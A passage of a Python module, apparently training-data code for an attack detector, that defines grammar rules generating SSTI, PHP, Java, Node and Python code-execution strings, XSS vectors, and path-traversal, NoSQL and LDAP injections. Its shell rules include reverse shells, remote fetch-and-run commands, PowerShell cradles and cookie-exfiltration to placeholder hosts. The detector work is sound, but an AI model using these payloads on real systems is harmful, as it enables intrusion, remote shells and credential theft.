"""Attack texts of our own making, for the classes that public payload lists lack or know only in
a few forms. Generic shapes: what an interpreter needs to see, with everything else varied."""
# ruff: noqa: E501  (one rule, one line: the tables read best so)
from __future__ import annotations

import base64
import random
from collections.abc import Callable
from urllib.parse import quote

from sidecar.train.grammar import Grammar

_RULES: dict[str, list[str]] = {
    # ---- server-side templates
    "math": ["<<small>>*<<small>>", "<<int>>*<<int>>", "<<small>>*'<<small>>'", "<<int>>+<<int>>", "<<int>>-<<int>>"],
    "ssti": ["{{<<tplx>>}}", "{{ <<tplx>> }}", "${<<tplx>>}", "#{<<tplx>>}", "<%= <<tplx>> %>", "*{<<tplx>>}",
             "@{<<tplx>>}", "${{<<tplx>>}}", "{{=<<tplx>>}}", "[[${<<tplx>>}]]", "__${<<tplx>>}__::.x", "{<<tplx>>}",
             "{%<<jtag>>%}", "{% <<jtag>> %}", "#set($<<letter>>=<<math>>)$<<letter>>", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
             "<#assign <<letter>>=\"freemarker.template.utility.Execute\"?new()>${<<letter>>(\"<<cmd>>\")}",
             "{php}echo `<<cmd>>`;{/php}", "{system('<<cmd>>')}", "{{<<math>>}}", "${<<math>>}", "<%=<<math>>%>", "#{<<math>>}",
             "@(<<math>>)", "~{<<math>>}", "{{['<<cmd>>']|filter('system')}}", "{{['<<cmd>>']|map('passthru')|join}}",
             "{{self.<<dunder>>}}", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"<<cmd>>\")}}",
             "<<word>>{{<<math>>}}<<word>>", "{{$on.constructor('<<js>>')()}}", "{{constructor.constructor('<<js>>')()}}",
             "#{root.process.mainModule.require('child_process').spawnSync('<<cmd>>').stdout}",
             "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('<<cmd>>')\")()}}",
             "<%= system(\"<<cmd>>\") %>", "<%= `<<cmd>>` %>", "<%= File.open('<<file>>').read %>", "{{dump(app)}}", "{{app.request.server.all|join(',')}}",
             "${T(java.lang.System).getenv()}", "${T(java.lang.Runtime).getRuntime().exec('<<cmd>>')}",
             "${T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('<<cmd>>').getInputStream())}",
             "{{config.items()}}", "{{settings.SECRET_KEY}}", "${class.getClassLoader()}", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
             "{{lipsum.__globals__.os.popen('<<cmd>>').read()}}", "{{cycler.__init__.__globals__.os.popen('<<cmd>>').read()}}",
             "{{url_for.__globals__['current_app'].config}}", "a{{bar}}b", "{{<<int>>|<<word>>}}", "${\"<<word>>\".toUpperCase()}", "#{ <<int>> * <<int>> }"],
    "tplx": ["<<math>>", "<<math>>", "<<dunder>>", "config", "self", "<<javax>>", "''.__class__.__mro__[<<small>>].__subclasses__()",
             "[].__class__.__base__.__subclasses__()[<<int>>]('<<cmd>>',shell=True,stdout=-1).communicate()", "request.__class__",
             "().__class__.__bases__[0].__subclasses__()", "\"<<word>>\"|upper", "<<int>>|abs"],
    "dunder": ["__init__.__globals__.__builtins__.open('<<file>>').read()", "__class__.__mro__", "__dict__",
               "__init__.__globals__['os'].popen('<<cmd>>').read()", "__import__('os').system('<<cmd>>')"],
    "jtag": ["for <<letter>> in ().__class__.__base__.__subclasses__()", "import os", "debug", "include '<<file>>'",
             "set <<letter>> = <<math>>", "if request['application']['__globals__']"],
    # ---- code: PHP, Java, JS, Python, expression languages
    "code": ["<<php>>", "<<php>>", "<<javax>>", "<<javax>>", "<<jsx>>", "<<pyx>>"],
    "php": ["<?php <<phpc>> ?>", "<?=<<phpc>>?>", "<?=`$_GET[<<int>>]`?>", "<<phpc>>", "';<<phpc>>;//", "\";<<phpc>>;#", "${<<phpcall>>}", "${@<<phpcall>>}",
            "{${<<phpcall>>}}", "');<<phpc>>;//", ".<<phpcall>>.", "'.<<phpcall>>.'", "$<<letter>>=<<phpcall>>;", "<? <<phpc>>",
            "php://filter/convert.base64-encode/resource=<<pfile>>", "php://filter/read=convert.base64-encode|string.rot13/resource=<<pfile>>",
            "php://input", "expect://<<cmd>>", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+", "data:text/plain,<?php <<phpc>>?>",
            "phar://<<word>>.phar/<<word>>", "zip://<<word>>.zip#<<word>>.php", "O:<<small>>:\"<<word>>\":<<small>>:{s:<<small>>:\"<<word>>\";s:<<small>>:\"<<word>>\";}",
            "a:<<small>>:{i:0;O:<<small>>:\"<<word>>\":0:{}}", "-d allow_url_include=1 -d auto_prepend_file=php://input", "glob:///<<pfile>>"],
    "pfile": ["index.php", "config.php", "wp-config.php", "../<<word>>.php", "/etc/passwd", "<<word>>", "../../config/database.php"],
    "phpc": ["<<phpcall>>;", "echo <<phpcall>>;", "print(<<phpcall>>)", "die(<<phpcall>>);", "eval($_POST['<<word>>']);", "@eval($_REQUEST[<<letter>>]);",
             "assert($_GET[<<letter>>]);", "system($_GET['cmd']);", "echo md5('<<word>>');", "$f='<<phpfn>>';$f('<<cmd>>');", "include('<<url>>');", "include $_GET['<<word>>'];",
             "call_user_func('<<phpfn>>','<<cmd>>');", "array_map('<<phpfn>>',array('<<cmd>>'));", "print_r(scandir('/'));", "var_dump($_SERVER);", "phpinfo();"],
    "phpcall": ["<<phpfn>>('<<cmd>>')", "<<phpfn>>(\"<<cmd>>\")", "phpinfo()", "file_get_contents('<<file>>')", "base64_decode('<<rnd>>')", "`<<cmd>>`",
                "print(md5(<<int>>))", "readfile('<<file>>')", "file_put_contents('<<word>>.php','<<word>>')", "sleep(<<small>>)", "var_dump(<<int>>)", "print(<<int>>+<<int>>)",
                "highlight_file('<<file>>')", "show_source(__FILE__)", "getenv('<<word>>')", "fopen('<<file>>','r')", "chr(<<int>>).chr(<<int>>)"],
    "phpfn": ["system", "exec", "passthru", "shell_exec", "popen", "proc_open", "assert", "eval", "pcntl_exec"],
    "javax": ["T(java.lang.Runtime).getRuntime().exec(\"<<cmd>>\")", "new java.lang.ProcessBuilder('<<cmd>>').start()", "java.lang.Runtime.getRuntime().exec('<<cmd>>')",
              "''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('<<cmd>>')", "#_memberAccess['allowStaticMethodAccess']=true",
              "%{(#a=@java.lang.Runtime@getRuntime().exec('<<cmd>>'))}", "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('<<word>>',<<math>>)}",
              "(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):1).(#cmd='<<cmd>>')", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=<<word>>",
              "${@java.lang.Runtime@getRuntime().exec('<<cmd>>')}", "new javax.script.ScriptEngineManager().getEngineByName('js').eval('<<js>>')", "javax.script.ScriptEngineManager",
              "@java.lang.System@getProperty('user.name')", "org.springframework.context.support.ClassPathXmlApplicationContext", "#{facesContext.externalContext.redirect('<<url>>')}",
              "(new java.util.Scanner(Runtime.getRuntime().exec('<<cmd>>').getInputStream()).useDelimiter('\\\\A').next())", "redirect:${#req=#context.get('co'+'m.open')}", "rO0ABXNyABdqYXZhLnV0aWw=",
              "'<<word>>'.class.forName('java.lang.System').getProperty('os.name')", "java.util.HashMap", "com.sun.rowset.JdbcRowSetImpl", "def proc = \"<<cmd>>\".execute()"],
    "jsx": ["require('child_process').exec('<<cmd>>')", "require('child_process').execSync('<<cmd>>').toString()", "global.process.mainModule.require('child_process')",
            "process.exit()", "res.end(require('fs').readFileSync('<<file>>').toString())", "_$$ND_FUNC$$_function(){require('child_process').exec('<<cmd>>')}()", "process.env.<<word>>",
            "';while(1){};'", "eval('<<js>>')", "this.constructor.constructor('return process')().exit()", "new Function('<<js>>')()", "process.binding('spawn_sync')",
            "require('fs').readdirSync('.').toString()", "require('http').get('<<url>>')", "(function(){<<js>>})()", "import('child_process')"],
    "pyx": ["__import__('os').system('<<cmd>>')", "__import__('os').popen('<<cmd>>').read()", "eval(compile('import os','a','exec'))", "open('<<file>>').read()", "import os; os.system('<<cmd>>')",
            "exec(\"import os;os.system('<<cmd>>')\")", "__import__('subprocess').check_output('<<cmd>>',shell=True)", "cos\nsystem\n(S'<<cmd>>'\ntR.", "!!python/object/apply:os.system ['<<cmd>>']",
            "--- !ruby/object:Gem::Installer", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"<<url>>\"]]]]", "`<<cmd>>`", "Kernel.exec('<<cmd>>')", "|<<cmd>>", "system('<<cmd>>')"],
    "jf": ["alert", "prompt", "confirm", "print", "eval", "<<letter>>", "alert", "console.log", "open"],
    "js": ["<<jf>>.call(<<word>>,<<int>>)", "<<jf>>.apply(null,[<<int>>])", "<<jf>>.apply(this,['<<word>>'])", "<<jf>>?.(<<int>>)", "<<jf>>?.(document?.<<word>>)", "(<<jf>>)(<<int>>)", "(<<jf>>)`<<int>>`", "<<jf>>`<<word>>`", "[<<int>>].map(<<jf>>)", "[<<int>>].forEach(<<jf>>)", "top.<<jf>>(<<int>>)", "top['<<jf>>'](<<int>>)", "_=<<jf>>,_(<<int>>)", "Reflect.apply(<<jf>>,null,[<<int>>])", "window.<<jf>>?.(<<int>>)", "<<jf>>(String.fromCharCode(<<int>>,<<int>>))", "<<jf>>(document.<<word>>)", "<<jf>>.bind(<<int>>)()", "<<jf>>(/<<word>>/)", "<<jf>>(/<<word>>/.source)", "<<jf>>('<<word>>')", "<<jf>>(\"<<word>>\")", "{<<jf>>(<<int>>)}", "Set.constructor`<<jf>>\x28<<int>>\x29```", "<<jf>>&lpar;<<int>>&rpar;", "window[`<<jf>>`](<<int>>)", "this[<<int>>..toString(<<small>>)](<<int>>)", "alert(<<int>>)", "alert(document.cookie)", "alert(document.domain)", "confirm(<<int>>)", "prompt(<<int>>)", "return process", "fetch('//<<host>>/'+document.cookie)", "alert`<<int>>`", "print()", "eval(name)",
           "location='//<<host>>?c='+document.cookie", "new Image().src='//<<host>>/'+document.cookie", "top['al'+'ert'](<<int>>)", "self['alert'](<<int>>)", "window['al\\x65rt'](1)", "(alert)(<<int>>)", "[<<int>>].find(alert)",
           "alert.call(null,<<int>>)", "import('//<<host>>')", "setTimeout('ale'+'rt(<<int>>)')", "onerror=alert;throw <<int>>", "eval(atob('YWxlcnQoMSk='))", "document.write('<<word>>')", "console.log(document.cookie)", "javascript:alert(<<int>>)",
           "a=alert,a(<<int>>)", "parent['alert'](<<int>>)", "Function('alert(<<int>>)')()", "[]['constructor']['constructor']('alert(<<int>>)')()", "alert(origin)", "location.href='<<url>>'", "$.getScript('//<<host>>')", "{onerror=alert}throw <<int>>"],
    # ---- XSS
    "xss": ["<<js>>", "<<js>>;", ";<<js>>;", "'<<js>>'", "<<xbreak>><<xtag>>", "<<xtag>>", "<<xattr>>", "<<xbreak>><<xtag>><<xtail>>", "<<xjs>>", "<<xtag>>", "<<xattr>>"],
    "xbreak": ["\">", "'>", "</title>", "</textarea>", "--></script>", "</script>", "<<word>>\">", "'\"><", "\"/>", "</style>", "*/</script>", "\\\">", "<<word>>'>", "`>", ">", "]]>", "\"'>", "<<word>>"],
    "xtail": ["//", "<!--", "<\"", "<'", "<x=\"", "", "<<word>>", "<b a=\""],
    "xtag": ["<script><<js>></script>", "<script><<js>>//", "<script src=//<<host>>></script>", "<script src=<<url>>></script>", "<script/src=//<<host>>/<<letter>>.js></script>", "<img<<xsp>>src=x<<xsp>><<ev>>=<<js>>>", "<svg<<xsp>><<ev>>=<<js>>>",
             "<svg/<<ev>>=<<js>>>", "<<<anytag>><<xsp>><<ev>>=<<js>>>", "<<<anytag>><<xsp>><<ev>>=\"<<js>>\">", "<<<anytag>><<xsp>><<ev>>='<<js>>'<<xsp>><<word>>>", "<<<anytag>> id=x tabindex=1 <<ev>>=<<js>>>", "<iframe<<xsp>>src=javascript:<<js>>>", "<a<<xsp>>href=\"javascript:<<js>>\"><<word>></a>",
             "<a href=javascript&colon;<<js>>>x", "<iframe srcdoc=\"<script><<js>></script>\">", "<object<<xsp>>data=javascript:<<js>>>", "<embed<<xsp>>src=javascript:<<js>>>", "<form><button<<xsp>>formaction=javascript:<<js>>>x", "<math><mi xlink:href=\"javascript:<<js>>\">",
             "<details open ontoggle=<<js>>>", "<video><source <<ev>>=\"<<js>>\">", "<body <<ev>>=<<js>>>", "<input autofocus <<ev>>=<<js>>>", "<marquee <<ev>>=<<js>>>", "<style>@import'//<<host>>';</style>", "<link rel=stylesheet href=//<<host>>>", "<base href=//<<host>>/>", "<meta http-equiv=refresh content=\"0;url=javascript:<<js>>\">",
             "<svg><animate <<ev>>=<<js>> attributeName=x dur=1s>", "<svg><script>&#97;lert(<<int>>)</script>", "<table background=javascript:<<js>>>", "<div style=\"background:url(javascript:<<js>>)\">", "<x <<ev>>=<<js>>>", "<isindex action=javascript:<<js>>>", "<select autofocus <<ev>>=<<js>>>", "<img src=`<<word>>` <<ev>>=<<js>>>",
             "<sCrIpT><<js>></ScRiPt>", "<scr<script>ipt><<js>></scr</script>ipt>", "<img src=x:<<word>> <<ev>>=<<js>>>", "<template><<xattr>></template>", "<noscript><p title=\"</noscript><img src=x <<ev>>=<<js>>>\">", "<svg><use href=\"data:image/svg+xml;base64,<<rnd>>#x\"/>", "<<<anytag>> <<ev>>=<<js>> <<ev>>=<<js>>",
             "<audio src <<ev>>=<<js>>>", "<script>/*<<word>>*/<<js>></script>", "<script x><<js>></script y>", "<script type=module><<js>></script>", "<iframe/<<ev>>=<<js>>>", "<object type=\"text/html\" data=\"<<url>>\">", "<img dynsrc=\"javascript:<<js>>\">", "<bgsound src=\"javascript:<<js>>\">", "<br size=\"&{<<js>>}\">"],
    "anytag": ["a", "b", "p", "div", "span", "svg", "img", "body", "input", "video", "audio", "details", "marquee", "button", "select", "textarea", "iframe", "object", "form", "table", "td", "article", "main", "custom-<<word>>", "<<letter>>", "xss", "keygen", "math", "style", "font", "h1", "dialog", "image", "frameset"],
    "xsp": [" ", "/", "  ", "\t", "\n", "%09", "%0a", "%0c", "/<<letter>>/", " <<word>>=<<word>> ", "\r\n"],
    "ev": ["onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onstart", "onpointerover", "onanimationstart", "onmouseenter", "onwheel", "oncopy", "onbegin", "onkeyup", "onpageshow", "onhashchange", "ontransitionend", "onpointerrawupdate", "onscroll", "oninput", "ondrag", "oncut", "onplay",
           "OnErRor", "ONLOAD", "onbeforecopy", "onmousewheel", "onseeking", "onsubmit", "onauxclick", "onloadend", "onfocusin", "oncanplaythrough", "ontouchstart", "onsearch", "onbeforetoggle", "oncontentvisibilityautostatechange", "onscrollsnapchange", "ondblclick", "ongesturestart"],
    "xattr": ["\" <<ev>>=<<js>> <<letter>>=\"", "' <<ev>>='<<js>>", "\" <<ev>>=\"<<js>>", "\"<<ev>>=<<js>>//", "<<word>>\" autofocus <<ev>>=\"<<js>>\" x=\"", "\"/<<ev>>=<<js>> ", "' autofocus <<ev>>=<<js>> '", "\" style=\"x:expression(<<js>>)", "\"`<<ev>>=<<js>>", " <<ev>>=<<js>>", "<<ev>>=<<js>>", "'<<ev>>=<<js>>+", "%22<<ev>>=<<js>>"],
    "xjs": ["';<<js>>//", "\";<<js>>//", "'-<<js>>-'", "\"-<<js>>-\"", "javascript:<<js>>", "JaVaScRiPt:<<js>>", "java%0ascript:<<js>>", "java\tscript:<<js>>", "data:text/html,<script><<js>></script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "'+<<js>>+'", "\\';<<js>>//", "${<<js>>}", "`${<<js>>}`", "<<js>>", "vbscript:msgbox(<<int>>)",
            "});<<js>>;({", "\"]);}<<js>>;//", "javascript://<<host>>/%0a<<js>>", "</script><script><<js>></script>", "'};<<js>>;{'", "<<word>>');<<js>>;//", "\\x3cscript\\x3e<<js>>\\x3c/script\\x3e", "\\u003cimg src=x <<ev>>=<<js>>\\u003e", "(<<js>>)", "'><script><<js>></script>"],
    # ---- shell
    "shell": ["<<sep>> set /a <<int>>*<<int>>", "<<word>>=<<cmd>>", "cmd=<<cmd>>", "--exec=`<<cmd>>`--<<word>>", "<<letter>>--<<word>>=`<<c>>`--<<word>>", "<<word>>=<<ip>> && <<cmd>>", "cmd=<<word>><<sep>><<c>>", "<<sep>><<cmd>>", "<<word>><<sep>><<cmd>>", "<<sep>><<cmd>><<sep>>", "$(<<cmd>>)", "`<<cmd>>`", "<<word>>$(<<cmd>>)", "<<word>>`<<cmd>>`", "<<ip>><<sep>><<cmd>>", "'<<sep>><<cmd>>'", "\"<<sep>><<cmd>>\"", "() { :;}; <<cmd>>", "() { _; } >_[$($())] { <<cmd>>; }", "<<int>><<sep>><<cmd>><<sep>><<word>>", "<<sep>><<scmd>>",
              "<<word>>'<<sep>><<cmd>>#", "<<word>>\"<<sep>><<cmd>><<sep>>\"", "<<sep>>{<<bare>>,<<file>>}", "<<cmd>>", "<<scmd>>", "<<sep>> <<wcmd>>", "<<wcmd>>", "cmd /c <<wcmd>>", "powershell -c <<wcmd>>", "powershell -nop -w hidden -enc <<rnd>>", "IEX(New-Object Net.WebClient).DownloadString('<<url>>')", "<<sep>><<cmd>> 2>&1", "<<sep>><<cmd>> > /dev/null", "<<sep>>echo <<rnd>>", "<<sep>>expr <<int>> + <<int>>",
              "$(printf '<<word>>')", "<<sep>>echo $((<<int>>+<<int>>))", "|echo <<int>>$((<<math>>))<<word>>", "\n<<cmd>>\n", "%0a<<cmd>>", "a;<<cmd>>;b", "-oProxyCommand=<<cmd>>", "--output=<<file>>", "--use-askpass=<<cmd>>"],
    "sep": [";", "|", "||", "&", "&&", "\n", "; ", " | ", " && ", " || ", ";;", "|&", "\r\n", " ; ", " & "],
    "bare": ["cat", "ls", "id", "wget", "curl", "head", "tail", "nl", "tac", "more"],
    "cmd": ["<<c>>", "<<c>>", "<<c>>", "/bin/<<c>>", "/usr/bin/<<c>>", "bash -c '<<c>>'", "sh -c \"<<c>>\"", "<<c>> | <<c2>>", "<<c>>;<<c>>", "sudo <<c>>", "nohup <<c>> &", "echo <<rnd>>|base64 -d|sh", "bash -i >& /dev/tcp/<<ip>>/<<int>> 0>&1", "nc -e /bin/sh <<ip>> <<int>>", "curl <<url>>|sh", "wget <<url>> -O- | bash",
            "python -c 'import socket,os;s=socket.socket();s.connect((\"<<ip>>\",<<int>>))'", "perl -e 'system(\"<<c>>\")'", "php -r 'system(\"<<c>>\");'", "ruby -rsocket -e 'exec \"<<c>>\"'", "rm -rf /tmp/<<word>>;mkfifo /tmp/<<letter>>;cat /tmp/<<letter>>|/bin/sh -i 2>&1|nc <<ip>> <<int>> >/tmp/<<letter>>", "cd /tmp;wget <<url>>;chmod 777 <<word>>;./<<word>>", "busybox wget <<url>>"],
    "c": ["id", "whoami", "uname -a", "cat <<file>>", "ls -la", "ls /", "ls -al /<<word>>", "cat /etc/passwd", "wget <<url>>", "curl <<url>>", "ping -c <<small>> <<ip>>", "ping -c 1 <<host>>", "nslookup <<host>>", "sleep <<small>>", "ifconfig", "netstat -an", "ps aux", "env", "pwd", "echo <<word>>", "nc <<ip>> <<int>>", "head -n <<small>> <<file>>", "tail <<file>>", "dig <<host>>",
          "curl http://<<host>>/$(whoami)", "find / -name <<word>>", "grep -r <<word>> /etc", "chmod +x /tmp/<<word>>", "touch /tmp/<<word>>", "printenv", "hostname", "getent hosts <<host>>", "telnet <<host>> <<small>>", "xxd <<file>>", "base64 <<file>>", "kill -9 <<int>>", "rm -rf /", "crontab -l", "which python", "lsof -i", "w", "history", "set", "reboot", "less <<file>>"],
    "c2": ["sh", "bash", "base64", "grep root", "head", "nc <<ip>> <<int>>", "tr a b", "wc -l", "xargs rm"],
    "scmd": ["cat${IFS}<<file>>", "cat$IFS$9<<file>>", "cat<<file>>", "c''at <<file>>", "c\"\"at <<file>>", "c\\at <<file>>", "/b?n/c?t /e?c/p?sswd", "/bin/c[a]t /etc/pass*", "{cat,<<file>>}", "w'h'o'am'i", "who$@ami", "who$()ami", "ec${x}ho <<word>>", "cat</etc/passwd", "IFS=,;`cat<<<uname,-a`", "$0<<<id", "l\\s${IFS}-la", "X=$'cat\\x20<<file>>'&&$X",
             "sleep${IFS}<<small>>", "wget${IFS}<<url>>", "ping%20-c%20<<small>>%20<<ip>>", "a=wh;b=oami;$a$b", "echo$IFS<<word>>", "$(echo${IFS}<<rnd>>|base64${IFS}-d)", "nslookup${IFS}<<host>>", "curl${IFS}<<url>>", "${PATH:0:1}etc${PATH:0:1}passwd", "ca$'t' <<file>>", "uname${IFS}-a", "tail$IFS$9-n1$IFS$9<<file>>"],
    "wcmd": ["dir c:\\", "type c:\\windows\\win.ini", "ipconfig /all", "net user", "net user <<word>> <<rnd>> /add", "systeminfo", "tasklist", "whoami /priv", "certutil -urlcache -split -f <<url>> <<word>>.exe", "ping -n <<small>> <<ip>>", "set /a <<int>>+<<int>>", "type %SYSTEMROOT%\\win.ini", "w^h^o^ami", "reg query HKLM\\Software", "wmic process list", "bitsadmin /transfer <<word>> <<url>> c:\\<<word>>.exe", "mshta <<url>>", "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication\"", "Get-Process", "dir C:\\Users\\*", "nslookup <<host>>", "start calc", "timeout /t <<small>>", "copy c:\\<<word>> c:\\<<word>>", "Invoke-WebRequest <<url>>", "del /f /q c:\\<<word>>"],
    "shock": ["() { :;}; <<cmd>>", "() { :; }; <<cmd>>", "() { <<letter>>() { _; }; <<letter>>() { _; } <<<<letter>>; } <<cmd>>", "() { _; } >_[$($())] { <<cmd>>; }", "() {:;};<<cmd>>", "() { <<word>>;}; echo; <<cmd>>", "() { function <<letter>> <<letter>>>\\ <<cmd>>", "(\x00) { :; }; <<cmd>>", "() { <<word>>() { <<word>>; }; ><<word>>; }", "() { (<<letter>>)=>\\ <<cmd>>", "() { :;}; echo '<<word>> <<word>>'", "<<word>>=() { :; }; <<cmd>>"],
    # ---- files and paths
    "file": ["/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/group", "/proc/self/environ", "/proc/version", "/proc/self/cmdline", "/root/.ssh/id_rsa", "/var/log/apache2/access.log", "/home/<<word>>/.bash_history", "/etc/issue", "/proc/1/maps", "c:\\windows\\win.ini", "c:/boot.ini", "/var/www/html/config.php", "/etc/nginx/nginx.conf", "~/.aws/credentials", "/app/.env", "/windows/system32/drivers/etc/hosts", "/etc/mysql/my.cnf", "/WEB-INF/web.xml", "/etc/resolv.conf", "/etc/crontab", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
    "lfi": ["\\\\::1\\c$\\<<wtgt>>", "\\\\127.0.0.1\\c$\\<<wtgt>>", "\\\\localhost\\admin$\\<<word>>", "\\\\?\\c:\\<<wtgt>>", "c:\\<<wtgt>>", "<<up>><<tgt>>", "<<up>><<tgt>>", "<<word>>/<<up>><<tgt>>", "/<<word>>/<<word>>/<<up>><<tgt>>", "<<file>>", "file://<<file>>", "<<up>><<tgt>>%00", "<<up>><<tgt>>%00.jpg", "<<up>><<tgt>>\x00.png", "/<<up>><<tgt>>", "<<word>>.php?<<word>>=<<up>><<tgt>>", "\\\\<<host>>\\<<word>>\\<<word>>.txt", "\\\\<<ip>>\\c$\\<<word>>", "//<<host>>/<<word>>", "/static/<<enc>><<enc>><<enc>><<tgt>>", "<<enc>><<enc>><<enc>><<tgt>>", "/<<word>>/<<enc>><<enc>><<tgt>>", "file:///<<tgt>>", "/..;/<<word>>/<<word>>", "/<<word>>/..;/manager/html", "..;/..;/<<tgt>>",
            "....//....//<<tgt>>", "..\\..\\..\\<<wtgt>>", "..%5c..%5c..%5c<<wtgt>>", "/.git/config", "/.env", "/WEB-INF/web.xml", "/.svn/entries", "/.aws/credentials", "/%2e%2e/%2e%2e/<<tgt>>", "/cgi-bin/<<up>>bin/sh", "<<up>>", "/proc/self/fd/<<small>>", "<<word>>/<<up>>.git/HEAD"],
    "enc": ["%2e%2e%2f", "..%2f", "%2e%2e/", "..%252f", "%252e%252e%252f", "..%c0%af", "%c0%ae%c0%ae/", "..%5c", "%uff0e%uff0e%u2215", "..%255c", "....//", "..././", "%%32%65%%32%65/", ".%2e/", "..//", "..%00/", "%u002e%u002e%u002f"],
    "up": ["../", "../../", "../../../", "../../../../", "../../../../../../", "../../../../../../../../", "..\\..\\", "..\\..\\..\\", "..//..//..//", "/../../../", "./../../", "..././..././", "....//....//", ".././.././../", "../..\\../"],
    "tgt": ["etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "windows/win.ini", "boot.ini", "var/log/messages", "<<word>>/<<word>>.php", "WEB-INF/web.xml", "<<word>>.conf", "root/.ssh/id_rsa", "etc/<<word>>", "windows/system32/drivers/etc/hosts", "app/config.yml", "<<word>>", "etc/issue", "var/www/<<word>>", "home/<<word>>/.ssh/authorized_keys", "proc/self/status"],
    "wtgt": ["windows\\win.ini", "boot.ini", "windows\\system32\\drivers\\etc\\hosts", "inetpub\\wwwroot\\web.config", "winnt\\system32\\cmd.exe", "users\\<<word>>\\<<word>>.txt", "<<word>>\\<<word>>.ini"],
    # ---- NoSQL
    "nosql": ["{\"$<<nop>>\": <<nv>>}", "{\"$<<nop>>\":<<nv>>}", "[$<<nop>>]=<<int>>", "[$<<nop>>]", "<<word>>[$<<nop>>]=<<word>>", "<<word>>[$<<nop>>]", "', $where: '<<nj>>", "{\"$where\": \"<<nj>>\"}", "{$where: '<<nj>>'}", "'||<<nj>>||'", "' || <<nj>>//", "' && <<nj>> && 'a'=='a", "'; <<nj>>; var x='", "true, $where: '<<nj>>'", ", $where: '<<nj>>'", "{$<<nop>>: <<nv>>}",
              "{\"<<word>>\": {\"$<<nop>>\": <<nv>>}, \"<<word>>\": {\"$<<nop>>\": <<nv>>}}", "{\"$or\": [{}, {\"<<letter>>\":\"<<letter>>\"}]}", "', $or: [{}, {'<<letter>>':'<<letter>>", "db.<<word>>.find({<<word>>: {$<<nop>>: <<nv>>}})", "db.<<word>>.drop()", "db.<<word>>.insert({<<word>>:<<int>>})", "'; return <<nj>>; var a='", "{\"$regex\":\"^<<letter>>.*\"}", "this.<<word>>.match(/^<<letter>>.*/)", "1;<<nj>>", "'}, {$<<nop>>: '", "{\"username\": {\"$in\": [\"admin\", \"<<word>>\"]}}", "$<<nop>>", "{\"selector\":{\"<<word>>\":{\"$<<nop>>\":null}}}", "|| <<int>>==<<int>>", "'||'<<int>>'=='<<int>>", "' || 'a'=='a", "{ $<<nop>> : <<nv>> }", "<<word>>' && this.<<word>>.match(/.*/)//", "' && this.<<word>>.match(/.*/)//+%00", "', $<<nop>>: '<<word>>", "$<<nop>>: [ <<int>>, <<int>> ]", "[$regex]=.*", "{\"$func\": \"<<word>>\"}", "'; sleep(<<int>>); var foo='bar", "<<int>>;<<nj>>;", ";<<nj>>;", "<<int>>;<<nj>>", "'; <<nj>>; '", "\";<<nj>>;\"", "', $or: [ {}, { '<<word>>':'<<word>>", "', $and: [ { <<word>>: {$<<nop>>: <<nv>>} }, { '<<letter>>':'<<letter>>", "} , $or: [{}, {\"<<word>>\":\"<<word>>", "<<int>>, $or: [{'<<word>>': {$<<nop>>: <<nv>>}}]", "';sleep(<<int>>);'"],
    "nop": ["ne", "gt", "gte", "lt", "lte", "in", "nin", "regex", "exists", "where", "or", "and", "not", "nor", "all", "size", "type", "elemMatch", "expr", "eq"],
    "nv": ["null", "\"\"", "<<int>>", "\"<<word>>\"", "''", "true", "[\"<<word>>\"]", "\".*\"", "undefined", "-1"],
    "nj": ["<<int>>==<<int>>", "this.<<word>>=='<<word>>'", "sleep(<<int>>)", "this.<<word>>.length>0", "return true", "1 == 1", "while(true){}", "this.<<word>> != null", "function(){return true}", "it=new Date();do{pt=new Date();}while(pt-it<<<int>>)", "var <<word>>=new Date(); do{<<word>>=new Date();}while(<<word>>-<<word>><<<int>>)", "var <<letter>>=Date.now();while(Date.now()-<<letter>><<<int>>){}", "for(var <<letter>>=0;<<letter>><<<int>>;<<letter>>++){}", "var <<letter>>=<<int>>;return true", "Object.keys(this)[0].length==<<small>>", "'a'=='a'", "this.password.match(/.*/)", "tojson(this)", "db.getCollectionNames()"],
    # ---- LDAP
    "ldap": ["*)(<<la>>=*", "*)(<<la>>=*))(|(<<la>>=*", "<<word>>)(&)", "*)(&", "*))%00", "<<word>>*)((|<<la>>=*)", "(&(<<la>>=<<word>>)(<<la>>=*))", "(|(<<la>>=*)(<<la>>=*))", "*)(|(<<la>>=<<word>>", "admin)(|(<<la>>=*", "*)(objectClass=*))(&(objectClass=void", ")(<<la>>=<<word>>)", "(<<la>>=*)", "!(&(1=0", "*()|&'", "x' or name()='<<word>>' or 'x'='y", "<<word>>)(!(&(1=0)))", "*)(<<la>>>=<<letter>>", "*)(<<la>>:1.2.840.113556.1.4.803:=<<int>>)", "(&(objectClass=<<word>>)(|(<<la>>=<<letter>>*)(<<la>>=<<letter>>*)))", "<<word>>)(<<la>>=<<letter>>*", "*(|(<<la>>=*))", "*))(|(<<la>>=*", ")(cn=))\x00", "<<word>>))(<<la>>=<<word>>", "(!(<<la>>=<<word>>))", "|(<<la>>=*)", "*)(|(|"],
    "la": ["uid", "cn", "mail", "objectClass", "userPassword", "sAMAccountName", "memberOf", "sn", "ou", "givenName", "password", "user", "telephoneNumber", "role", "homeDirectory", "dc"],
    # ---- XML
